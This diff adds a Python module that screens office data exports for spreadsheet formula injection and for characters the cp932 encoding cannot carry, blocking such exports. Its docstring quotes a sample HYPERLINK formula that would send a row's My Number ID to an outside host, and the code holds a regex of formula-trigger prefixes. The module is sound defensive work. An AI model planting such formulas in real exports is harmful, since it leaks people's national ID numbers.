@@ -1,0 +1,179 @@
+"""What may leave the office: no text a spreadsheet would run as a formula, no character the export's
+encoding cannot carry unchanged. Pure: canonical and raw values in; findings, notices and problems out.
+
+- Formula text: a value beginning with =, +, -, @, a tab or a CR (or a full-width =, +, -, @), in its
+  canonical form (NFKC, spaces trimmed: so "\t=1+1", whose tab an export trims, is caught as "=1+1"). The
+  receiving municipality's Excel would run it, e.g. =HYPERLINK("http://…?n="&I2) sending row 2's My Number
+  away. Unfit to seal (seal.problems), a blocking finding (check: kind "formula"), refused by export, which
+  looks again at exactly what it would write. A column marked `signed` in the rules may hold plain numbers
+  with a sign (a negative amount is a number, not a formula); anything else there is still formula text.
+- Encodings: a character the export's encoding cannot write (cp932: 𠮷, emoji, variation selectors, NBSP,
+  accented Latin), or writes as another one (cp932 writes 〜 U+301C, − U+2212, ¢ U+00A2 and reads them
+  back as ～ U+FF5E, － U+FF0D, ￠ U+FFE0). A notice from seal and check (the list is as sealed; only its
+  export in that encoding cannot be), refused by export before anything is written. Never substituted.
+"""
+from dataclasses import replace
+from functools import lru_cache
+
+import numpy as np
+import pandas as pd
+import pyarrow as pa
+import pyarrow.compute as pc
+
+from ..text.messages import unsafe_text
+from .errors import ExportRefused
+from .kinds.values import arrow
+
+TRIGGERS = "=+-@\t\r＝＋－＠"
+_FORMULA = "^[=+\\-@\\t\\r＝＋－＠]"
+_SIGNED_NUMBER = "^[-+][0-9]+(\\.[0-9]+)?$"
+TYPED = ("text", "kana")         # kinds exported as staff typed them (trimmed), not in canonical form
+
+
+def as_typed(raw) -> pa.Array:
+    """Names and addresses as staff typed them, trimmed: what an export writes for text and kana columns."""
+    return pc.utf8_trim_whitespace(arrow(raw))
+
+
+def formula_positions(values: pa.Array, signed: bool = False) -> np.ndarray:
+    """Positions of the values a spreadsheet would take as a formula. With `signed`, a plain number with a
+    sign (-5000) is a number."""
+    hit = pc.match_substring_regex(values, _FORMULA)
+    if signed:
+        hit = pc.and_(hit, pc.invert(pc.match_substring_regex(values, _SIGNED_NUMBER)))
+    return np.flatnonzero(hit.to_numpy(zero_copy_only=False))
+
+
+def formula_cells(values: dict, rules) -> list:
+    """(column, positions) for each column of `values` ({name: string array}) holding formula text, in
+    rule order."""
+    out = []
+    for c in rules.columns:
+        if c.name in values:
+            pos = formula_positions(values[c.name], c.signed)
+            if len(pos):
+                out.append((c.name, pos))
+    return out
+
+
+@lru_cache(maxsize=None)
+def _carried(ch: str, encoding: str):
+    """True if `encoding` writes `ch` and reads it back unchanged; else what it reads back (None: `ch`
+    cannot be written at all)."""
+    try:
+        back = ch.encode(encoding).decode(encoding)
+    except UnicodeError:
+        return None
+    return True if back == ch else back
+
+
+def _chars(arr: pa.Array) -> set:
+    """The distinct characters of a string array, from its data buffer in one decode."""
+    arr = pc.cast(arr, pa.large_string()) if not pa.types.is_large_string(arr.type) else arr
+    if len(arr) == 0 or arr.buffers()[2] is None:
+        return set()
+    offsets = np.frombuffer(arr.buffers()[1], np.int64)[arr.offset:arr.offset + len(arr) + 1]
+    data = memoryview(arr.buffers()[2])[int(offsets[0]):int(offsets[-1])]
+    return set(bytes(data).decode("utf-8"))
+
+
+def uncarried(values: dict, encoding: str) -> list:
+    """(column, character, what it becomes or None if it cannot be written, positions) for every character
+    in `values` ({name: string array}) that `encoding` does not carry unchanged; by column, then by where
+    each character first appears. A column of plain ASCII costs one scan."""
+    out = []
+    for col, arr in values.items():
+        if len(arr) == 0 or pc.all(pc.string_is_ascii(arr)).as_py():
+            continue
+        bad = {ch: b for ch in _chars(arr) if (b := _carried(ch, encoding)) is not True}
+        if not bad:
+            continue
+        pattern = "[" + "".join(f"\\x{{{ord(ch):X}}}" for ch in bad) + "]"
+        hit = np.flatnonzero(pc.match_substring_regex(arr, pattern).to_numpy(zero_copy_only=False))
+        at = {}
+        for p, v in zip(hit.tolist(), arr.take(pa.array(hit, pa.int64())).to_pylist()):
+            for ch in dict.fromkeys(v):
+                if ch in bad:
+                    at.setdefault(ch, []).append(p)
+        out += [(col, ch, bad[ch], np.asarray(pos, np.int64)) for ch, pos in sorted(at.items(), key=lambda i: i[1][0])]
+    return out
+
+
+def carried_values(raw: pd.DataFrame, canon: pd.DataFrame, rules) -> dict:
+    """What an export writes of each export column, before dates and postal codes are formatted (which adds
+    only the rules' own date_format and a hyphen, looked at again when the export runs)."""
+    return {c: as_typed(raw[c]) if rules.column(c).kind in TYPED else arrow(canon[c]) for c in rules.export["columns"]}
+
+
+def notices(raw: pd.DataFrame, canon: pd.DataFrame, rules, rows, msg) -> list:
+    """(notice, Excel rows, columns, message): one per column and character the rules' export encoding
+    cannot carry unchanged."""
+    enc = rules.export["encoding"]
+    out = []
+    for col, ch, becomes, pos in uncarried(carried_values(raw, canon, rules), enc):
+        at = np.asarray(rows)[pos].tolist()
+        out.append(("encoding", at, [col], msg.uncarried(col, ch, becomes, enc, at)))
+    return out
+
+
+def unfit(canon: pd.DataFrame, rows, rules, positions) -> list:
+    """seal.problems' items for formula text among `positions`: (column, "formula", Excel rows)."""
+    out = []
+    for col, pos in formula_cells({c: arrow(canon[c]) for c in rules.names}, rules):
+        pos = np.intersect1d(pos, positions)
+        if len(pos):
+            out.append((col, "formula", np.asarray(rows)[pos].tolist()))
+    return out
+
+
+def screened(report, raw: pd.DataFrame, rules, rows, msg):
+    """The check's report with what must not leave the office added: formula text as findings of kind
+    "formula" (they block) with their cause, and the encoding's notices (they do not)."""
+    cells = formula_cells({c: arrow(report.canon[c]) for c in rules.names}, rules)
+    notes = notices(raw, report.canon, rules, rows, msg)
+    if not cells and not notes:
+        return report
+    findings, diagnosis = report.findings, report.diagnosis
+    if cells:
+        where = {}
+        for col, pos in cells:
+            for p in pos.tolist():
+                where.setdefault(p, []).append(col)
+        at = sorted(where)
+        excel = np.asarray(rows)[at].tolist()
+        new = pd.DataFrame([(r, "formula", where[p], None, None, msg.formula(r, where[p])) for p, r in zip(at, excel)],
+                           columns=findings.columns)
+        findings = _joined(findings, new).sort_values(["row", "kind"], na_position="last", kind="stable")
+        findings = findings.reset_index(drop=True)
+        cols = [c for c, _ in cells]
+        diagnosis = _joined(diagnosis, pd.DataFrame([("formula", excel, cols, None, msg.cause("formula", excel, cols))],
+                                                    columns=diagnosis.columns))
+    notices_ = _joined(report.notices, pd.DataFrame(notes, columns=report.notices.columns))
+    return replace(report, status="clean" if findings.empty else "blocked", findings=findings, diagnosis=diagnosis,
+                   notices=notices_)
+
+
+def _joined(a: pd.DataFrame, b: pd.DataFrame) -> pd.DataFrame:
+    if a.empty:
+        return b.reset_index(drop=True)
+    return a if b.empty else pd.concat([a, b], ignore_index=True)
+
+
+def refuse(values: pa.Table, rows, rules, encoding: str | None) -> None:
+    """Raise ExportRefused, before anything is written, if what an export would write holds formula text,
+    or (`encoding` given: a text file) characters that encoding cannot carry unchanged."""
+    arrays = {c: values.column(c).combine_chunks() for c in values.column_names}
+    rows = np.asarray(rows)
+    cells = formula_cells(arrays, rules)
+    if cells:
+        raise refusal("formula", [(col, rows[pos].tolist()) for col, pos in cells])
+    bad = uncarried(arrays, encoding) if encoding else []
+    if bad:
+        raise refusal("encoding", [(col, ch, becomes, rows[pos].tolist()) for col, ch, becomes, pos in bad], encoding)
+
+
+def refusal(reason: str, items: list, encoding: str | None = None) -> ExportRefused:
+    """The export's refusal: `reason` formula (items: column, Excel rows), encoding (column, character, what
+    it becomes or None, Excel rows) or file_name (destination, file name, FILE_NAME_PROBLEMS key)."""
+    return ExportRefused(why=unsafe_text(reason, items, "en", encoding=encoding), reason=reason, items=items,
+                         encoding=encoding)
